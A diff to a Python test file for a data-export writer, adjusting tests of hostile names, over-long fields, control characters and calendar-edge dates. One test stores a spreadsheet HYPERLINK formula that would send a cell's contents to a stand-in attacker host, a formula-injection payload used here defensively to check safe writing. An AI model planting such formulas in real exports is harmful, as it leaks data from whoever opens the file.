@@ -217,7 +217,8 @@ def test_hostile_names_and_edge_dates_are_written_safely(w, case_manager_a, org_
     hostile = add_person(
         case_manager_a, org_a, w["program_a"], legal_first_name="Jean", legal_last_name="Formule"
     )
-    long_name = "L" * 10_000
+    # The longest name the registry stores (PostgreSQL refuses more; the writer's own test takes 10,000).
+    long_name = "L" * Participant._meta.get_field("legal_last_name").max_length
     Participant.objects.filter(pk=hostile.pk).update(
         legal_first_name='=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
         legal_last_name=long_name,
@@ -242,6 +243,7 @@ def test_a_nul_byte_or_a_control_character_never_reaches_the_file():
                 {
                     "OrganizationID": "1",
                     "OrganizationName": "Mission\x00A\x07",
+                    "OrganizationCommonName": "N" * 10_000,
                     "VictimServiceProvider": 0,
                     "DateCreated": datetime.datetime(1, 1, 1, tzinfo=datetime.UTC),
                     "DateUpdated": datetime.datetime(9999, 12, 31, 23, 59, tzinfo=datetime.UTC),
@@ -254,6 +256,7 @@ def test_a_nul_byte_or_a_control_character_never_reaches_the_file():
     assert "\x00" not in lines[1]
     assert "\x07" not in lines[1]
     assert "Mission A " in lines[1]
+    assert "N" * 10_000 in lines[1]
     # Written in Montréal time; a moment at the edge of the calendar is written as it is.
     assert "0001-01-01 00:00:00" in lines[1]
     assert "9999-12-31 18:59:00" in lines[1]
